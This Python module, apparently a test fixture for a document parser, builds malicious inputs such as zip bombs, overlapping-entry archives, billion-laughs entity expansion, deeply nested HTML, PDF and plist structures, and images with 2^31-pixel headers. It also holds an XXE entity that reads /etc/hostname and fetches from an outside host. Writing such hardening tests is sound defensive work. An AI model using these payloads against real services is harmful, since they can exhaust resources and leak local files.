"""Bombs: small or simple files that grow, nest or promise without end, each made anew when it is wanted."""

from __future__ import annotations

import base64
import gzip
import io
import plistlib
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping

MIB = 1024 * 1024
_ENDLESS_PX = 2**31 - 1
_DEEP = 100_000
_SVG = b'<svg xmlns="http://www.w3.org/2000/svg">'
_TIFF_TAGS = ((256, _ENDLESS_PX), (257, _ENDLESS_PX), (273, 8))  # width, height, where the pixels begin
_LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'haha'>{}]>".format(
    "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
)
_EXTERNAL = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/hostname'><!ENTITY % b SYSTEM 'http://192.0.2.1/x'>]>"
_CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="a.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
_OPF = (
    '{before}<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest><item id="a" href="a.xhtml"'
    ' media-type="application/xhtml+xml"/></manifest><spine>{spine}</spine></package>'
)
_DOCX = '{before}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>'
_ODT = (
    '{before}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"'
    ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    ' xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"><office:body><office:text>{body}'
    "</office:text></office:body></office:document-content>"
)
_FB2 = '{before}<FictionBook xmlns="http://www.gribuser.ru/xml/fictionbook/2.0"><body><section>{body}</section></body></FictionBook>'


def bombs() -> Mapping[str, Callable[[], bytes]]:
    """Every bomb by name; each call makes one."""
    made: dict[str, Callable[[], bytes]] = {}
    for kind, pack in {"epub": epub, "docx": docx, "odt": odt}.items():
        made[f"{kind}, an entry that swells to 300 MiB"] = lambda pack=pack: pack("<p>" + " " * 300 * MIB)  # type: ignore[misc]
        made[f"{kind}, entities that multiply"] = lambda pack=pack: pack("<p>&a11;</p>", _LAUGHS)  # type: ignore[misc]
        made[f"{kind}, an entity from outside"] = lambda pack=pack: pack("<p>&a;</p>", _EXTERNAL)  # type: ignore[misc]
    made |= _OF_ARCHIVES | _OF_DEPTH | _OF_PICTURES | _OF_LENGTH
    return made


def archive(entries: Mapping[str, bytes | str], *, stored: frozenset[str] = frozenset()) -> bytes:
    """A ZIP file."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, data in entries.items():
            made.writestr(name, data, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def epub(body: str, before: str = "", spine: str = '<itemref idref="a"/>') -> bytes:
    page = f'{before}<html xmlns="http://www.w3.org/1999/xhtml"><body>{body}</body></html>'
    return archive(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": _CONTAINER,
            "a.opf": _OPF.format(before=before, spine=spine),
            "a.xhtml": page,
        },
        stored=frozenset({"mimetype"}),
    )


def docx(body: str, before: str = "", *, stored: bool = False) -> bytes:
    types = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
    body = body.replace("<p>", "<w:p><w:r><w:t>").replace("</p>", "</w:t></w:r></w:p>")
    entries = {"[Content_Types].xml": types, "word/document.xml": _DOCX.format(before=before, body=body)}
    return archive(entries, stored=frozenset(entries) if stored else frozenset())


def odt(body: str, before: str = "", *, stored: bool = False) -> bytes:
    body = body.replace("<p>", "<text:p>").replace("</p>", "</text:p>")
    mime = "application/vnd.oasis.opendocument.text"
    entries = {"mimetype": mime, "content.xml": _ODT.format(before=before, body=body)}
    return archive(entries, stored=frozenset(entries) if stored else frozenset({"mimetype"}))


def fb2(body: str, before: str = "") -> bytes:
    return _FB2.format(before=before, body=body).encode()


def png(width_px: int, height_px: int, packed: bytes = b"") -> bytes:
    """A PNG file of this size by its header; its pixels are what `packed` unpacks to."""
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", width_px, height_px, 8, 0, 0, 0, 0)), (b"IDAT", packed), (b"IEND", b"")]
    body = b"".join(
        struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks
    )
    return b"\x89PNG\r\n\x1a\n" + body


def pdf(pages: int = 1, media_box: str = "0 0 9 9", stream: bytes = b"", filters: str = "") -> bytes:
    """A PDF of so many pages that share one sheet's size and content; its cross-reference is left to be repaired."""
    kids = " ".join(f"{number} 0 R" for number in range(4, 4 + pages))
    parts = [
        b"%PDF-1.4",
        b"1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj",
        f"2 0 obj << /Type /Pages /Count {pages} /MediaBox [{media_box}] /Kids [{kids}] >> endobj".encode(),
        f"3 0 obj << /Length {len(stream)} {filters} >> stream\n".encode() + stream + b"\nendstream endobj",
    ]
    parts += [
        f"{number} 0 obj << /Type /Page /Parent 2 0 R /Contents 3 0 R >> endobj".encode()
        for number in range(4, 4 + pages)
    ]
    return b"\n".join([*parts, b"trailer << /Root 1 0 R >>", b"%%EOF"])


def _nested_zip(depth: int) -> bytes:
    data = archive({"bomb.txt": b"\0" * MIB})
    for level in range(depth):
        data = archive({f"{level}-{copy}.zip": data for copy in range(10)})
    return data


def _overlapping_zip() -> bytes:
    """A thousand names for one entry's bytes, which the directory says to be as many entries."""
    packed = zlib.compress(b"\0" * 8 * MIB, 9)[2:-4]
    crc = zlib.crc32(b"\0" * 8 * MIB)
    sizes = struct.pack("<III", crc, len(packed), 8 * MIB)
    local = b"PK\x03\x04" + struct.pack("<HHHHH", 20, 0, 8, 0, 0) + sizes + struct.pack("<HH", 5, 0) + b"a.txt" + packed
    directory = b""
    for number in range(1000):
        name = f"{number:05d}.txt".encode()
        directory += b"PK\x01\x02" + struct.pack("<HHHHHH", 20, 20, 0, 8, 0, 0) + sizes
        directory += struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0) + name
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1000, 1000, len(directory), len(local), 0)
    return local + directory + end


def _deep_mail(depth: int) -> bytes:
    head = (
        "From: a@example.org\nTo: b@example.org\nSubject: x\nDate: Mon, 1 Jan 2024 00:00:00 +0000\nMIME-Version: 1.0\n"
    )
    opened = "".join(f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n' for n in range(depth))
    return (head + opened + "Content-Type: text/plain\n\nhello\n").encode()


def _mail_of_parts(parts: int) -> bytes:
    head = "From: a@example.org\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n"
    return (head + "--b\nContent-Type: text/plain\n\nx\n" * parts + "--b--\n").encode()


def _deep_plist() -> bytes:
    return plistlib.dumps(
        {"WebMainResource": {"WebResourceData": b"<p>a</p>", "WebResourceMIMEType": "text/html"}}
    ).replace(b"<dict>", b"<dict><key>x</key>" + b"<array>" * _DEEP + b"</array>" * _DEEP, 1)


def _looping_bplist() -> bytes:
    """A binary property list whose only array holds itself, ten times."""
    array = b"\xaa" + b"\x00" * 10
    head = b"bplist00"
    return head + array + bytes([8]) + struct.pack(">6xBBQQQ", 1, 1, 1, 0, len(head) + len(array))


def _warc(packed: bool) -> bytes:
    body = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<p>" + b" " * 300 * MIB
    head = (
        "WARC/1.0\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:1>\r\nWARC-Date: 2024-01-01T00:00:00Z\r\n"
        "WARC-Target-URI: http://example.org/\r\nContent-Type: application/http; msgtype=response\r\n"
        f"Content-Length: {len(body)}\r\n\r\n"
    )
    record = head.encode() + body + b"\r\n\r\n"
    return gzip.compress(record, 1) if packed else record[: 60 * MIB]


_OF_ARCHIVES: dict[str, Callable[[], bytes]] = {
    "zip in zip in zip in zip": lambda: _nested_zip(5),
    "zip, a thousand names for one entry": _overlapping_zip,
    "zip of 100,000 empty files": lambda: archive({f"{n}.txt": b"" for n in range(100_000)}),
    "zip, one entry that swells to 1 GiB": lambda: archive({"a.txt": b"\0" * 1024 * MIB}),
    "epub, a spine of a million": lambda: epub("<p>a</p>", spine='<itemref idref="a"/>' * 1_000_000),
    "comic of endless pictures": lambda: archive({f"{n}.png": png(_ENDLESS_PX, 1) for n in range(500)}),
    "warc.gz that swells to 300 MiB": lambda: _warc(True),
    "warc of blanks": lambda: _warc(False),
}
_OF_DEPTH: dict[str, Callable[[], bytes]] = {
    "html, 300,000 open divs": lambda: b"<!doctype html><body>" + b"<div>" * 300_000 + b"a",
    "html, 100,000 open tables": lambda: b"<!doctype html><body>" + b"<table><tr><td>" * _DEEP + b"a",
    "html, 100,000 open lists and bold": lambda: b"<!doctype html><body>" + b"<ul><li><b><i>" * _DEEP + b"a",
    "html, a million ampersands": lambda: b"<!doctype html><p>" + b"&" * 1_000_000,
    "html, a tag of 20 MiB": lambda: b"<!doctype html><p " + b"a=1 " * 5 * MIB + b">a",
    "html, 200,000 rules for 20,000 elements": lambda: (
        b"<!doctype html><style>" + b"".join(b".c%d p i{margin:1em}" % n for n in range(200_000)) + b"</style>"
        + b"<div class=c1><p><i>a</i></p></div>" * 20_000
    ),
    "html, a selector of a thousand steps": lambda: (
        b"<!doctype html><style>" + b"* > * ~ * " * 1000 + b"{margin:1em}</style>" + b"<i>" * 400 + b"a"
    ),
    "html, a table of a billion columns": lambda: b"<!doctype html><table><tr><td colspan=1000000000>a</table>",
    "markdown, 10,000 quotes deep": lambda: b"# a\n\n" + b"> " * 10_000 + b"a\n",
    "markdown, 100,000 brackets": lambda: b"# a\n\n" + b"[" * 100_000 + b"a\n",
    "markdown, 100,000 stars": lambda: b"# a\n\n" + b"a**" * 100_000 + b"\n",
    "markdown, 50,000 links open": lambda: b"# a\n\n" + b"[a](<b" * 50_000,
    "markdown, 100,000 backticks": lambda: b"# a\n\n" + b"".join(b"`" * (n % 300) + b"a " for n in range(2000)),
    "markdown, 20,000 nested lists": lambda: b"# a\n\n" + b"".join(b" " * (2 * n) + b"* a\n" for n in range(2000)),
    "markdown, a table of 20,000 columns": lambda: b"".join(
        b"|%s" % cell * 20_000 + b"|\n" for cell in (b"a", b"-", b"b")),
    "rtf, a million groups": lambda: b"{\\rtf1 " + b"{" * 1_000_000 + b"a",
    "rtf, two gigabytes promised": lambda: b"{\\rtf1 a\\bin2147483647 x}",
    "fb2, 100,000 sections deep": lambda: fb2("<section>" * _DEEP + "<p>a</p>" + "</section>" * _DEEP),
    "fb2, entities that multiply": lambda: fb2("<p>&a11;</p>", _LAUGHS),
    "docx, 100,000 tables deep": lambda: docx("<w:tbl><w:tr><w:tc>" * _DEEP + "<p>a</p>", stored=True),
    "docx, 100,000 paragraphs": lambda: docx("<p>a</p>" * 100_000, stored=True),
    "odt, 100,000 lists deep": lambda: odt("<text:list><text:list-item>" * _DEEP + "<p>a</p>", stored=True),
    "odt, a billion blanks and cells": lambda: odt(
        '<p>a<text:s text:c="1000000000"/></p><table:table><table:table-row table:number-rows-repeated="1000000000">'
        '<table:table-cell table:number-columns-repeated="1000000000"><p>a</p></table:table-cell>'
        "</table:table-row></table:table>"
    ),
    "eml, 20,000 parts deep": lambda: _deep_mail(20_000),
    "eml, 300,000 parts": lambda: _mail_of_parts(300_000),
    "eml, a header of 20 MiB": lambda: b"From: a@example.org\nSubject: x\nTo: " + b"a@b, " * 4 * MIB + b"\n\nhello\n",
    "webarchive, 100,000 arrays deep": _deep_plist,
    "webarchive that holds itself": _looping_bplist,
    "svg, 100,000 groups": lambda: _SVG + b"<g>" * _DEEP + b"</g>" * _DEEP + b"</svg>",
    "svg, uses that multiply": lambda: (
        b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><g id="a0"><rect width="1" height="1"/></g>'
        + b"".join(b'<g id="a%d">%s</g>' % (n, b'<use href="#a%d"/>' % (n - 1) * 10) for n in range(1, 12))
        + b"</svg>"
    ),
}  # fmt: skip
_OF_PICTURES: dict[str, Callable[[], bytes]] = {
    "png, 1 px by 2^31": lambda: png(1, _ENDLESS_PX),
    "png, 60,000 px square": lambda: png(60_000, 60_000, zlib.compress(b"\0" * 60_001 * 1000, 9)),
    "html, a picture of 1 px by 2^31": lambda: _page_with(png(1, _ENDLESS_PX)),
    "html, 3,000 pictures of 60 Mpx": lambda: _page_with(png(7700, 7700, zlib.compress(b"\0" * 7701 * 7700, 9)), 3000),
    "html, an svg of 1 px by 2^31": lambda: (
        b'<!doctype html><p>a<svg xmlns="http://www.w3.org/2000/svg" width="1" height="2147483647"><rect/></svg>'
    ),
    "gif, 65,535 px square": lambda: (
        b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\xff\xff\xff\xff\0\x02\x02D\x01\0;"
    ),
    "bmp, 1 px by 2^31": lambda: (
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 100, 0, 0, 54, 40, 1, _ENDLESS_PX, 1, 24, 0, 0, 1, 1, 0, 0) + b"\0" * 46
    ),
    "tiff, 2^31 px square": lambda: (
        b"II*\0\x08\0\0\0\x03\0"
        + b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in _TIFF_TAGS)
        + b"\0\0\0\0"
    ),
    "pdf, a page of 1 by 2^31 points": lambda: pdf(media_box="0 0 1 2147483647"),
    "pdf of 100,000 pages": lambda: pdf(pages=100_000),
    "pdf, two billion pages promised": lambda: pdf().replace(b"/Count 1", b"/Count 2147483647"),
    "pdf, a page tree that holds itself": lambda: pdf().replace(b"/Kids [4 0 R]", b"/Kids [2 0 R 2 0 R 4 0 R]"),
    "pdf, a content that swells to 300 MiB": lambda: pdf(
        stream=zlib.compress(b"q " * 150 * MIB, 9), filters="/Filter /FlateDecode"
    ),
    "pdf, packed four times": lambda: pdf(
        stream=_packed(b"0 0 m " * 20 * MIB, 4), filters="/Filter [/FlateDecode /FlateDecode /FlateDecode /FlateDecode]"
    ),
    "pdf, 100,000 arrays deep": lambda: pdf().replace(b"/Type /Catalog", b"/Type /Catalog /X " + b"[" * _DEEP),
}  # fmt: skip
_OF_LENGTH: dict[str, Callable[[], bytes]] = {
    "text, 60 MiB of one line": lambda: b"a" * 60 * MIB,
    "text, 60 MiB of one line of words": lambda: b"word " * 12 * MIB,
    "text, 60 MiB of line ends": lambda: b"a" + b"\n" * 60 * MIB,
    "text, 500 MiB of one line": lambda: b"a" * 500 * MIB,
    "text, 20 MiB of accents on one letter": lambda: b"a" + "\u0301".encode() * 10 * MIB,
    "html, 60 MiB of one line": lambda: b"<!doctype html><p>" + b"a" * 60 * MIB,
    "markdown, 30 MiB of one line": lambda: b"# a\n\n" + b"word " * 6 * MIB,
    "csv, a row of two million fields": lambda: b"a,b\n1,2\n" + b"x," * 2_000_000 + b"\n",
    "csv, 60 MiB in one open quote": lambda: b'a,b\n1,2\n"' + b"x,y\n" * 15 * MIB,
    "csv, three million rows": lambda: b"a,b\n" + b"1,2\n" * 3_000_000,
    "rtf, 60 MiB of words": lambda: b"{\\rtf1 " + b"\\b a " * 12 * MIB + b"}",
    "fb2, 50 MiB of one paragraph": lambda: fb2("<p>" + "word " * 10 * MIB + "</p>"),
}


def _page_with(picture: bytes, times: int = 1) -> bytes:

    source = b"data:image/png;base64," + base64.b64encode(picture)
    return b"<!doctype html><p>a" + b"".join(b'<img src="%s%d">' % (source, n) for n in range(times))


def _packed(data: bytes, times: int) -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    return data
